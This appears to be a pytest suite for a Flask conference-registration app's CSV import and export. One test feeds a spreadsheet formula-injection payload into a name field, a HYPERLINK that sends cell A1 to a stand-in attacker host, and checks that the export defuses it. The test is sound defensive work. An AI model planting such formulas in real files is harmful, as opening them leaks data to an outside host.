"""CSV import and export: checked row by row with the form's rules, saved all at once or not at all."""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select, update
from sqlalchemy.exc import DBAPIError

from conftest import Seeded, assert_role_access, attendee, field_errors, seed_convening, submit
from convening.audit.models import AuditEntry
from convening.audit.services import Actor
from convening.extensions import db
from convening.mail.models import OutboxMessage
from convening.models import Convening, TicketType
from convening.registration import csvfile, imports, services
from convening.registration.models import (
    DietaryNeed,
    ImportStatus,
    Registration,
    RegistrationImport,
    RegistrationStatus,
)

STAFF = Actor("Ana Ruiz (ana.ruiz@convening.test)")
HEADER = ("First name", "Family name", "Email", "Ticket")
TICKETS = [{"name": "Elected official"}, {"name": "Staff and partners", "price_cents": 35_000}]


def sheet(*rows: Sequence[str], header: Sequence[str] = HEADER) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    return buffer.getvalue().encode()


def people(count: int, ticket: str = "Elected official", start: int = 0) -> list[tuple[str, str, str, str]]:
    return [(f"Person{n}", "Doe", f"person{n}@example.org", ticket) for n in range(start, start + count)]


def check(app: Flask, seeded: Seeded, data: bytes, *, default: str | None = None) -> int:
    with app.app_context():
        upload = imports.check_import(
            db.session.get(Convening, seeded.convening_id),
            "people.csv",
            data,
            default_ticket_type_id=seeded.tickets[default] if default else None,
            actor=STAFF,
        )
        return upload.id


def run(app: Flask, import_id: int, *, send_emails: bool = False) -> RegistrationImport:
    with app.app_context():
        imports.run_import(import_id, send_emails=send_emails, actor=STAFF)
    return loaded(app, import_id)


def loaded(app: Flask, import_id: int) -> RegistrationImport:
    with app.app_context():
        upload = db.session.get(RegistrationImport, import_id)
        db.session.expunge(upload)
        return upload


def stored(app: Flask) -> dict[str, Any]:
    """Everything an import may change but the import records themselves."""
    with app.app_context():
        return {
            "registrations": sorted(
                (email, status.value, first_name)
                for email, status, first_name in db.session.execute(
                    select(Registration.email, Registration.status, Registration.first_name)
                )
            ),
            "audit": db.session.scalar(select(func.count()).select_from(AuditEntry)),
            "outbox": db.session.scalar(select(func.count()).select_from(OutboxMessage)),
            "seats": [
                *db.session.scalars(select(Convening.seats_taken).order_by(Convening.id)),
                *db.session.scalars(select(TicketType.seats_taken).order_by(TicketType.id)),
            ],
        }


def register(app: Flask, seeded: Seeded, email: str, ticket: str = "Elected official") -> int:
    with app.app_context():
        registration = services.register(
            db.session.get(Convening, seeded.convening_id),
            db.session.get(TicketType, seeded.tickets[ticket]),
            services.AttendeeDetails(first_name="Already", email=email),
            notify=False,
        )
        return registration.id


def registrations(app: Flask) -> dict[str, Registration]:
    with app.app_context():
        found = db.session.scalars(select(Registration).order_by(Registration.id)).all()
        for registration in found:
            db.session.expunge(registration)
        return {registration.email: registration for registration in found}


# --- checking and importing -----------------------------------------------------------------------------


def test_a_checked_file_imports_every_row_through_the_form_rules(app: Flask) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    data = sheet(
        (
            "Nguyễn",
            "Thị Lan",
            " Lan.Nguyen@Example.ORG ",
            "Elected official",
            "312 555 0143",
            "Gluten free",
            "yes",
        ),
        ("李小龍", "", "bruce@example.org", "staff AND partners", "", "", ""),
        ("محمد", "الأمين", "mohamed@example.org", "", "", "", "no"),
        header=(*HEADER, "Mobile", "Dietary needs", "Listed in directory"),
    )
    import_id = check(app, seeded, data, default="Elected official")
    upload = loaded(app, import_id)
    assert (upload.rows_total, upload.rows_ready, upload.rows_duplicate, upload.rows_with_errors) == (
        3,
        3,
        0,
        0,
    )
    assert upload.status == ImportStatus.CHECKED
    assert upload.report["rows"] == []
    assert [row["name"] for row in upload.report["sample"]] == ["Nguyễn Thị Lan", "李小龍", "محمد الأمين"]
    assert upload.report["forecast"] == {"seated": 3, "waitlisted": 0}
    assert stored(app)["registrations"] == []  # checking saves no registration

    done = run(app, import_id)
    assert done.status == ImportStatus.IMPORTED
    assert done.imported_count == 3
    assert done.report["outcome"] == {
        "confirmed": 2,
        "pending_payment": 1,
        "waitlisted": 0,
        "duplicates_skipped": 0,
        "emails_sent": False,
    }
    saved = registrations(app)
    lan = saved["lan.nguyen@example.org"]
    assert (lan.first_name, lan.family_name, lan.badge_name) == ("Nguyễn", "Thị Lan", "Nguyễn Thị Lan")
    assert lan.phone == "(312) 555-0143"
    assert lan.dietary == DietaryNeed.GLUTEN_FREE
    assert lan.listed_in_directory is True
    assert lan.status == RegistrationStatus.CONFIRMED
    assert saved["bruce@example.org"].status == RegistrationStatus.PENDING_PAYMENT
    assert saved["bruce@example.org"].price_cents == 35_000
    assert saved["mohamed@example.org"].ticket_type_id == seeded.tickets["Elected official"]
    assert stored(app)["seats"] == [3, 2, 1]
    assert stored(app)["outbox"] == 0
    with app.app_context():
        entries = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
        actions = [entry.action for entry in entries]
        assert actions == [
            "registration_import.check",
            *["registration.create"] * 3,
            "registration_import.run",
        ]
        assert entries[1].actor_label == "Ana Ruiz (ana.ruiz@convening.test), importing people.csv"
        assert entries[-1].summary == (
            "Imported 3 registrations from people.csv: 2 confirmed, 1 with payment pending, 0 on the waiting "
            "list; 0 duplicates skipped"
        )


BAD_ROWS = [
    # (cells for First name, Email, Phone, Dietary needs, Dietary notes, Photo consent, Ticket), the message
    (("", "a@example.org", "", "", "", "", ""), "First name is missing. Add it, or remove the row."),
    (("Bo", "", "", "", "", "", ""), "E-mail is missing. Add it, or remove the row."),
    (("Cy", "cy-at-example.org", "", "", "", "", ""), "E-mail: An email address must have an @-sign."),
    (("D" * 101, "d@example.org", "", "", "", "", ""), "First name: Keep this under 100 characters."),
    (("E\u202eve", "e@example.org", "", "", "", "", ""), "First name: Remove the invisible text-direction"),
    (("Fa", "f@example.org", "12", "", "", "", ""), "Cell: Enter a phone number with its area code"),
    (("Gi", "g@example.org", "", "pescatarian", "", "", ""), "Diet: “pescatarian” is not one of none, veget"),
    (("Ha", "h@example.org", "", "Other", "", "", ""), "Diet is “other” but Allergies is empty."),
    (("Io", "i@example.org", "", "", "", "maybe", ""), "Photo consent: write yes or no, not “maybe”."),
    (("Jo", "j@example.org", "", "", "", "", "VIP"), "Ticket: “VIP” is not a ticket of this convening."),
]


def test_each_row_reports_what_to_fix_in_the_columns_of_the_file(app: Flask) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    header = ("First name", "E-mail", "Cell", "Diet", "Allergies", "Photo consent", "Ticket")
    rows = [cells for cells, _ in BAD_ROWS] + [("Ok", "ok@example.org", "", "", "", "yes", "")]
    before = stored(app)
    import_id = check(app, seeded, sheet(*rows, header=header), default="Elected official")
    upload = loaded(app, import_id)
    assert (upload.rows_total, upload.rows_ready, upload.rows_with_errors) == (11, 1, 10)
    reported = {row["row"]: row["errors"] for row in upload.report["rows"]}
    for number, (_, message) in enumerate(BAD_ROWS, start=2):
        assert len(reported[number]) == 1, reported[number]
        assert reported[number][0].startswith(message), (number, reported[number])
    with pytest.raises(imports.ImportRefused, match="Fix the rows with errors"):
        run(app, import_id)
    assert stored(app)["registrations"] == before["registrations"]
    assert stored(app)["seats"] == before["seats"]


@pytest.mark.parametrize(
    ("field", "value"),
    [("email", "cy-at-example.org"), ("phone", "12"), ("first_name", "D" * 101), ("family_name", "a\x07b")],
)
def test_an_import_refuses_exactly_what_the_public_form_refuses(
    app: Flask, client: FlaskClient, field: str, value: str
) -> None:
    seeded = seed_convening(app)
    form = submit(
        client,
        f"/c/{seeded.slug}/register",
        attendee(ticket_type=seeded.tickets["Elected official"], **{field: value}),
    )
    assert form.status_code == 422
    [form_message] = field_errors(form.get_data(as_text=True))
    row = attendee(**{field: value})
    columns = ["first_name", "family_name", "email", "phone"]
    import_id = check(
        app, seeded, sheet([row[key] for key in columns], header=columns), default="Elected official"
    )
    [reported] = loaded(app, import_id).report["rows"]
    assert reported["errors"] == [f"{field}: {form_message}"]


def test_duplicates_in_the_file_and_already_registered_are_skipped_not_doubled(app: Flask) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    register(app, seeded, "ana@example.org")
    cancelled = register(app, seeded, "dee@example.org")
    with app.app_context():
        services.cancel(db.session.get(Registration, cancelled), notify=False)
    data = sheet(
        ("Ana", "Again", "ANA@example.org", "Elected official"),
        ("Bo", "", "bo@example.org", "Elected official"),
        ("Bo", "Twice", "Bo@Example.org ", "Staff and partners"),
        ("Dee", "", "dee@example.org", "Elected official"),  # a cancelled registration frees the address
    )
    import_id = check(app, seeded, data)
    upload = loaded(app, import_id)
    assert (upload.rows_total, upload.rows_ready, upload.rows_duplicate, upload.rows_with_errors) == (
        4,
        2,
        2,
        0,
    )
    assert upload.report["rows"] == [
        {
            "row": 2,
            "name": "Ana Again",
            "email": "ANA@example.org",
            "errors": [],
            "duplicate": True,
            "duplicate_of": None,
        },
        {
            "row": 4,
            "name": "Bo Twice",
            "email": "Bo@Example.org",
            "errors": [],
            "duplicate": True,
            "duplicate_of": 3,
        },
    ]
    done = run(app, import_id)
    assert done.imported_count == 2
    assert done.report["outcome"]["duplicates_skipped"] == 2
    emails = [email for email, status, _ in stored(app)["registrations"] if status != "cancelled"]
    assert sorted(emails) == ["ana@example.org", "bo@example.org", "dee@example.org"]
    assert registrations(app)["bo@example.org"].family_name == ""  # the first row of the file wins


def test_rows_beyond_capacity_join_the_waiting_list_in_file_order_and_are_counted(app: Flask) -> None:
    seeded = seed_convening(app, capacity=3, tickets=TICKETS)
    register(app, seeded, "early@example.org")
    import_id = check(app, seeded, sheet(*people(4)))
    assert loaded(app, import_id).report["forecast"] == {"seated": 2, "waitlisted": 2}
    done = run(app, import_id, send_emails=True)
    assert done.report["outcome"]["confirmed"] == 2
    assert done.report["outcome"]["waitlisted"] == 2
    statuses = {email: status for email, status, _ in stored(app)["registrations"]}
    assert [statuses[f"person{n}@example.org"] for n in range(4)] == [
        "confirmed",
        "confirmed",
        "waitlisted",
        "waitlisted",
    ]
    assert stored(app)["seats"][0] == 3
    with app.app_context():
        kinds = db.session.scalars(select(OutboxMessage.kind).order_by(OutboxMessage.id)).all()
    assert kinds == ["confirmed", "confirmed", "waitlisted", "waitlisted"]


def test_an_error_half_way_saves_nothing_and_the_import_says_why(app: Flask) -> None:
    seeded = seed_convening(app)
    rows = people(5)
    import_id = check(app, seeded, sheet(*rows))
    before = stored(app)
    third = rows[2][2].lower()
    # The database itself fails on the third insert, as a full disk or a lost connection would.
    with app.app_context(), db.engine.begin() as connection:
        if connection.dialect.name == "postgresql":
            connection.exec_driver_sql(
                "CREATE FUNCTION fail_import() RETURNS trigger LANGUAGE plpgsql AS "
                "$$ BEGIN RAISE EXCEPTION 'the disk is full'; END $$"
            )
            connection.exec_driver_sql(
                "CREATE TRIGGER fail_import BEFORE INSERT ON registrations FOR EACH ROW "
                f"WHEN (NEW.email = '{third}') EXECUTE FUNCTION fail_import()"
            )
        else:
            connection.exec_driver_sql(
                f"CREATE TRIGGER fail_import BEFORE INSERT ON registrations WHEN NEW.email = '{third}' "
                "BEGIN SELECT RAISE(ABORT, 'the disk is full'); END"
            )
    try:
        with pytest.raises(DBAPIError, match="the disk is full"):
            run(app, import_id)
        assert stored(app) == before
        upload = loaded(app, import_id)
        assert upload.status == ImportStatus.CHECKED
        assert upload.report["failure"].startswith("Nothing was imported: the import stopped with an error (")
        assert "the disk is full" in upload.report["failure"]
    finally:
        with app.app_context(), db.engine.begin() as connection:
            postgresql = connection.dialect.name == "postgresql"
            connection.exec_driver_sql(
                "DROP TRIGGER fail_import" + (" ON registrations" if postgresql else "")
            )
            if postgresql:
                connection.exec_driver_sql("DROP FUNCTION fail_import()")
    assert run(app, import_id).imported_count == 5  # once the cause is gone, the same import goes through


def test_what_changed_since_the_check_is_checked_again_when_saving(app: Flask) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    import_id = check(app, seeded, sheet(*people(3)))
    register(app, seeded, "person1@example.org")  # registered on the form in the meantime
    done = run(app, import_id)
    assert done.imported_count == 2
    assert done.rows_duplicate == 1

    renamed = check(app, seeded, sheet(*people(2, start=10)))
    with app.app_context():
        db.session.execute(
            update(TicketType).where(TicketType.name == "Elected official").values(name="Official")
        )
        db.session.commit()
    before = stored(app)
    with pytest.raises(imports.ImportRefused, match="since the check, 2 rows have errors"):
        run(app, renamed)
    assert stored(app) == before
    upload = loaded(app, renamed)
    assert upload.rows_with_errors == 2
    assert "Ticket: “Elected official” is not a ticket" in upload.report["rows"][0]["errors"][0]

    gone = check(
        app, seeded, sheet(("Zoë", "", "zoe@example.org"), header=HEADER[:3]), default="Staff and partners"
    )
    with app.app_context():
        db.session.delete(db.session.get(TicketType, seeded.tickets["Staff and partners"]))
        db.session.commit()
    with pytest.raises(
        imports.ImportRefused, match="The ticket chosen for rows without one is no longer offered"
    ):
        run(app, gone)
    assert stored(app)["registrations"] == before["registrations"]


def test_an_import_runs_once_and_a_discarded_one_never(app: Flask) -> None:
    seeded = seed_convening(app)
    import_id = check(app, seeded, sheet(*people(2)))
    run(app, import_id)
    before = stored(app)
    with pytest.raises(imports.ImportRefused, match="already imported: 2 registrations"):
        run(app, import_id)
    discarded = check(app, seeded, sheet(*people(2, start=5)))
    with app.app_context():
        imports.discard_import(db.session.get(RegistrationImport, discarded), actor=STAFF)
    with pytest.raises(imports.ImportRefused, match="discarded"):
        run(app, discarded)
    assert stored(app)["registrations"] == before["registrations"]
    forgotten = loaded(app, discarded)
    assert (forgotten.content, forgotten.report["rows"], forgotten.rows_total) == ("", [], 2)


def test_a_formula_in_a_name_is_stored_as_text_and_exported_harmless(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    run(app, check(app, seeded, sheet((formula, "+1 Ruiz", "f@example.org", "Elected official"))))
    assert registrations(app)["f@example.org"].first_name == formula
    body = staff_client("staff").get(f"/staff/c/{seeded.slug}/registrations.csv").get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))
    assert row["First name"] == "'" + formula
    assert row["Family name"] == "'+1 Ruiz"
    assert row["Email"] == "f@example.org"


def test_blank_lines_quotes_and_line_breaks_in_cells_import_as_written(app: Flask) -> None:
    seeded = seed_convening(app)
    data = (
        b"First name,Email,Organization,Accessibility needs\r\n"
        b"\r\n"
        b'Ana,ana@example.org,"Tucson, City of","Step-free access,\r\nlarge print"\r\n'
        b",,,\r\n"
        b'"Bo ""Bobby""",bo@example.org,,\r\n'
    )
    import_id = check(app, seeded, data, default="Elected official")
    upload = loaded(app, import_id)
    assert (upload.rows_total, upload.rows_ready) == (2, 2)
    assert [row["row"] for row in upload.report["sample"]] == [3, 5]
    run(app, import_id)
    saved = registrations(app)
    assert saved["ana@example.org"].organization == "Tucson, City of"
    assert saved["ana@example.org"].accessibility_needs == "Step-free access,\nlarge print"
    assert saved["bo@example.org"].first_name == 'Bo "Bobby"'


def test_a_windows_1252_file_imports_with_a_note_to_check_the_names(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    data = (
        "First name,Family name,Email\r\nHéctor,Ramírez,hector@example.org\r\nZoë,Åberg,zoe@example.org\r\n"
    )
    client = staff_client("staff")
    response = upload_file(
        client, seeded, data.encode("cp1252"), ticket_type=str(seeded.tickets["Elected official"])
    )
    page = client.get(response.location).get_data(as_text=True)
    assert "read as Windows-1252" in page
    assert "Check that these names look right: <bdi>Héctor Ramírez</bdi>, <bdi>Zoë Åberg</bdi>." in page
    submit(client, response.location + "/run", {}, form_url=response.location)
    assert registrations(app)["hector@example.org"].family_name == "Ramírez"


# --- the console ------------------------------------------------------------------------------------------


def upload_file(
    client: FlaskClient, seeded: Seeded, data: bytes, *, ticket_type: str = "", name: str = "people.csv"
) -> Any:
    url = f"/staff/c/{seeded.slug}/import"
    return submit(client, url, {"file": (io.BytesIO(data), name), "ticket_type": ticket_type})


def test_staff_check_a_file_see_the_preview_and_import_it_as_a_job(app: Flask, staff_client) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    register(app, seeded, "person0@example.org")
    client = staff_client("staff")
    form = client.get(f"/staff/c/{seeded.slug}/import").get_data(as_text=True)
    assert "Download a template" in form
    assert "“Staff and partners”" in form
    response = upload_file(
        client,
        seeded,
        sheet(*people(3), ("", "", "nobody@example.org", "")),
        name="C:/Users/ana/board.csv",
    )
    assert response.status_code == 303
    preview = client.get(response.location).get_data(as_text=True)
    assert "1 of 4 rows need fixing; nothing was imported." in preview
    assert "First name is missing. Add it, or remove the row." in preview
    assert "Ticket is empty." in preview
    assert "Skipped: this email is already registered." in preview
    assert "Import 2 registrations" not in preview

    response = upload_file(client, seeded, sheet(*people(3)), name="C:/Users/ana/board.csv")
    preview = client.get(response.location).get_data(as_text=True)
    assert "<bdi>board.csv</bdi>" in preview
    assert "Checked board.csv: 2 registrations are ready to import." in preview
    assert "Import 2 registrations" in preview
    ran = submit(client, response.location + "/run", {"send_emails": "y"}, form_url=response.location)
    assert ran.status_code == 303
    assert ran.location.startswith("/staff/jobs/")
    job_page = client.get(ran.location).get_data(as_text=True)
    assert "Done" in job_page
    assert f'href="{response.location}"' in job_page
    outcome = client.get(response.location).get_data(as_text=True)
    assert "Imported 2 registrations" in outcome
    assert "1 duplicates were skipped." in outcome
    assert "Each person was emailed." in outcome
    assert stored(app)["outbox"] == 2
    index = client.get(f"/staff/c/{seeded.slug}/import").get_data(as_text=True)
    assert "Imported 2" in index
    assert "1 rows to fix" in index
    again = submit(client, response.location + "/run", {}, form_url=response.location)
    assert again.status_code == 303
    assert again.location == response.location


def test_discarding_a_file_imports_nothing(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    client = staff_client("staff")
    response = upload_file(client, seeded, sheet(*people(2)))
    discarded = submit(client, response.location + "/discard", {}, form_url=response.location)
    assert discarded.status_code == 303
    assert discarded.location == f"/staff/c/{seeded.slug}/import"
    assert "Discarded people.csv. Nothing from it was imported." in client.get(discarded.location).get_data(
        as_text=True
    )
    assert "This file was discarded" in client.get(response.location).get_data(as_text=True)
    assert stored(app)["registrations"] == []


BAD_FILES = [
    (
        "wrong encoding",
        b"First name,Email\n" + "Nguyễn,a@example.org\n".encode() + "Héctor,h@example.org\n".encode("cp1252"),
        "Line 3 is not UTF-8",
    ),
    ("undecodable", b"First name,Email\nAn\x81a,a@example.org\n", "neither UTF-8 nor Windows-1252"),
    (
        "missing columns",
        b"Name,Mail\nAna Ruiz,a@example.org\n",
        "there is no “First name” column",
    ),
    ("header only", b"First name,Email\r\n", "column headings but no rows of people"),
    ("empty", b"", "The file is empty."),
    ("xlsx", b"PK\x03\x04" + bytes(range(256)) * 4, "This is an Excel workbook (.xlsx)"),
    ("binary", bytes(range(256)) * 4, "it holds binary data"),
]


@pytest.mark.parametrize(
    ("data", "message"), [case[1:] for case in BAD_FILES], ids=[case[0] for case in BAD_FILES]
)
def test_a_file_that_cannot_be_read_is_refused_beside_the_field_and_changes_nothing(
    app: Flask, staff_client, data: bytes, message: str
) -> None:
    seeded = seed_convening(app)
    client = staff_client("staff")
    before = stored(app)
    response = upload_file(client, seeded, data, ticket_type=str(seeded.tickets["Elected official"]))
    assert response.status_code == 422
    [error] = field_errors(response.get_data(as_text=True))
    assert message in error, error
    assert stored(app) == before
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(RegistrationImport)) == 0


def test_a_file_without_tickets_asks_for_one_beside_the_ticket_choice(app: Flask, staff_client) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    response = upload_file(
        staff_client("staff"), seeded, sheet(("Ana", "", "a@example.org"), header=HEADER[:3])
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert 'id="ticket_type-error"' in page
    assert "The file has no Ticket column. Choose the ticket for these people" in page


def test_a_file_over_10_mb_is_refused_even_when_the_server_would_take_it(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    data = b"First name,Email\n" + b"Ana,a@example.org\n" * (csvfile.MAX_BYTES // 18 + 1)
    response = upload_file(
        staff_client("staff"), seeded, data, ticket_type=str(seeded.tickets["Elected official"])
    )
    assert response.status_code == 422
    assert field_errors(response.get_data(as_text=True)) == [
        "This file is over 10 MB. Split it into smaller files."
    ]


def test_a_request_past_the_upload_limit_gets_the_form_back_with_the_size(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    data = b"First name,Email\n" + b"Ana,a@example.org\n" * 700_000
    client = staff_client("staff")
    response = upload_file(client, seeded, data)
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "This file is over 10 MB, the most that can be uploaded." in field_errors(page)[0]
    assert "Up to 10 MB." in page
    visitor = app.test_client().post(
        f"/staff/c/{seeded.slug}/import", data={"file": (io.BytesIO(data), "x.csv")}
    )
    assert visitor.status_code == 413
    assert "Earlier imports" not in visitor.get_data(as_text=True)


def test_thousands_of_problems_are_shown_a_page_at_a_time(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    client = staff_client("staff")
    rows = [(f"P{n}", "", "not-an-email", "") for n in range(250)]
    response = upload_file(client, seeded, sheet(*rows), ticket_type=str(seeded.tickets["Elected official"]))
    first = client.get(response.location).get_data(as_text=True)
    assert "Page 1 of 3" in first
    assert first.count('class="row-error"') == 100
    last = client.get(response.location + "?page=3").get_data(as_text=True)
    assert last.count('class="row-error"') == 50
    assert ">251</th>" in last
    assert client.get(response.location + "?page=99").status_code == 200


def test_another_conventions_import_is_not_found(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    other = seed_convening(app, slug="other")
    import_id = check(app, seeded, sheet(*people(1)))
    client = staff_client("staff")
    assert client.get(f"/staff/c/{other.slug}/import/{import_id}").status_code == 404
    assert (
        submit(
            client, f"/staff/c/{other.slug}/import/{import_id}/run", {}, form_url="/staff/password"
        ).status_code
        == 404
    )
    assert client.get(f"/staff/c/{seeded.slug}/import/99999999999").status_code == 404


def test_the_template_lists_every_column_and_imports_as_it_is(app: Flask, staff_client) -> None:
    seeded = seed_convening(app)
    response = staff_client("staff").get(f"/staff/c/{seeded.slug}/import/template.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="registrations-template.csv"'
    assert response.data.startswith(codecs.BOM_UTF8)
    with app.app_context():
        _, checked = imports.check_file(
            db.session.get(Convening, seeded.convening_id), response.data, default_ticket_type_id=None
        )
    assert len(checked.ready) == 1
    assert checked.sheet.ignored == []
    assert list(checked.sheet.headings) == [column.key for column in csvfile.COLUMNS]


# --- the export -------------------------------------------------------------------------------------------


def test_the_export_opens_in_excel_and_round_trips_every_script(app: Flask, staff_client) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    data = sheet(
        ("Nguyễn", "Thị Lan", "lan@example.org", "Elected official"),
        ("李小龍", "", "bruce@example.org", "Staff and partners"),
        ("محمد", "الأمين", "mohamed@example.org", "Elected official"),
    )
    run(app, check(app, seeded, data))
    with app.app_context():
        services.cancel(
            db.session.scalar(select(Registration).filter_by(email="bruce@example.org")), notify=False
        )
    client = staff_client("staff")
    response = client.get(f"/staff/c/{seeded.slug}/registrations.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith(
        f'attachment; filename="{seeded.slug}-registrations-'
    )
    assert response.data.startswith(codecs.BOM_UTF8)
    body = response.data.decode("utf-8-sig")
    assert body.count("\r\n") == 4
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["First name"] for row in rows] == ["Nguyễn", "李小龍", "محمد"]  # in the order they registered
    assert [row["Status"] for row in rows] == ["Confirmed", "Cancelled", "Confirmed"]
    assert rows[1]["Price"] == "350.00"
    assert rows[1]["Cancelled (America/Chicago)"] != ""
    assert rows[0]["Listed in directory"] == "no"
    for secret in ("badge_token", "manage_secret"):
        for registration in registrations(app).values():
            assert getattr(registration, secret) not in body

    cancelled = client.get(f"/staff/c/{seeded.slug}/registrations.csv?status=cancelled&q=").data.decode(
        "utf-8-sig"
    )
    assert [row["Email"] for row in csv.DictReader(io.StringIO(cancelled))] == ["bruce@example.org"]
    found = client.get(f"/staff/c/{seeded.slug}/registrations.csv?q=nguyen").data.decode("utf-8-sig")
    assert [row["Email"] for row in csv.DictReader(io.StringIO(found))] == ["lan@example.org"]

    other = seed_convening(app, slug="next-year", tickets=TICKETS)
    with app.app_context():
        _, again = imports.check_file(
            db.session.get(Convening, other.convening_id), response.data, default_ticket_type_id=None
        )
    assert [row.details.first_name for row in again.ready] == ["Nguyễn", "李小龍", "محمد"]
    assert [row.details.family_name for row in again.ready] == ["Thị Lan", "", "الأمين"]
    assert "Status" in again.sheet.ignored
    with app.app_context():
        summaries = db.session.scalars(
            select(AuditEntry.summary)
            .where(AuditEntry.action == "registration.export")
            .order_by(AuditEntry.id)
        ).all()
    assert summaries == [
        "Downloaded the registrations as CSV",
        "Downloaded the registrations as CSV (Cancelled)",
        "Downloaded the registrations as CSV (search “nguyen”)",
    ]


# --- who may ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/import"),
        ("POST", "/import"),
        ("GET", "/import/template.csv"),
        ("GET", "/import/{id}"),
        ("POST", "/import/{id}/run"),
        ("POST", "/import/{id}/discard"),
        ("GET", "/registrations.csv"),
    ],
)
def test_each_import_route_admits_staff_and_admins_only(app: Flask, method: str, path: str) -> None:
    seeded = seed_convening(app)
    import_id = check(app, seeded, sheet(*people(2)))
    assert_role_access(app, method, f"/staff/c/{seeded.slug}" + path.format(id=import_id), "staff")


# --- the command line -------------------------------------------------------------------------------------


def test_the_command_checks_dry_runs_and_imports(app: Flask, tmp_path: Path) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    register(app, seeded, "person0@example.org")
    runner = app.test_cli_runner()
    good = tmp_path / "good.csv"
    good.write_bytes(sheet(*people(3), ("Ana", "", "ana@example.org", ""), header=HEADER))

    dry = runner.invoke(
        args=[
            "registrations",
            "import",
            str(good),
            "--convening",
            seeded.slug,
            "--dry-run",
            "--ticket-type",
            "staff and partners",
        ]
    )
    assert dry.exit_code == 0, dry.output
    assert "Row 2: skipped, person0@example.org is already registered." in dry.output
    assert "4 rows: 3 ready, 1 duplicates (skipped), 0 with errors." in dry.output
    assert "Dry run: nothing was saved." in dry.output
    assert len(stored(app)["registrations"]) == 1

    bad = tmp_path / "bad.csv"
    bad.write_bytes(sheet(*people(2), ("Bo", "", "", "Elected official")))
    refused = runner.invoke(args=["registrations", "import", str(bad), "--convening", seeded.slug])
    assert refused.exit_code == 1
    assert "Row 4: Email is missing. Add it, or remove the row." in refused.output
    assert "Nothing was imported: fix the rows above" in refused.output
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(RegistrationImport)) == 0

    unreadable = tmp_path / "people.xlsx"
    unreadable.write_bytes(b"PK\x03\x04rest")
    assert (
        runner.invoke(args=["registrations", "import", str(unreadable), "--convening", seeded.slug]).exit_code
        == 1
    )
    no_ticket = runner.invoke(
        args=["registrations", "import", str(good), "--convening", seeded.slug, "--ticket-type", "VIP"]
    )
    assert no_ticket.exit_code == 2
    assert "'VIP' is not a ticket of summit" in no_ticket.output

    done = runner.invoke(
        args=[
            "registrations",
            "import",
            str(good),
            "--convening",
            seeded.slug,
            "--ticket-type",
            "Elected official",
        ]
    )
    assert done.exit_code == 0, done.output
    assert (
        "Imported 3 registrations: 3 confirmed, 0 with payment pending, 0 on the waiting list." in done.output
    )
    assert len(stored(app)["registrations"]) == 4
    with app.app_context():
        actors = set(
            db.session.scalars(
                select(AuditEntry.actor_label).where(AuditEntry.action == "registration.create")
            )
        )
    assert "Command line, importing good.csv" in actors


def test_the_command_exports_what_it_is_asked_for(app: Flask, tmp_path: Path) -> None:
    seeded = seed_convening(app, tickets=TICKETS)
    run(app, check(app, seeded, sheet(*people(2), ("Zoë", "Åberg", "zoe@example.org", "Staff and partners"))))
    out = tmp_path / "all.csv"
    result = app.test_cli_runner().invoke(
        args=["registrations", "export", "--convening", seeded.slug, "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert f"Wrote 3 registrations to {out}." in result.output
    assert out.read_bytes().startswith(codecs.BOM_UTF8)
    assert "Zoë,Åberg" in out.read_text("utf-8-sig")
    paid = tmp_path / "paid.csv"
    result = app.test_cli_runner().invoke(
        args=[
            "registrations",
            "export",
            "--convening",
            seeded.slug,
            "--out",
            str(paid),
            "--status",
            "pending_payment",
        ]
    )
    assert "Wrote 1 registrations" in result.output
    assert [row["Email"] for row in csv.DictReader(io.StringIO(paid.read_text("utf-8-sig")))] == [
        "zoe@example.org"
    ]
    unknown = app.test_cli_runner().invoke(
        args=["registrations", "export", "--convening", "nope", "--out", str(paid)]
    )
    assert unknown.exit_code == 2
    assert "There is no convening 'nope'. Known: summit." in unknown.output
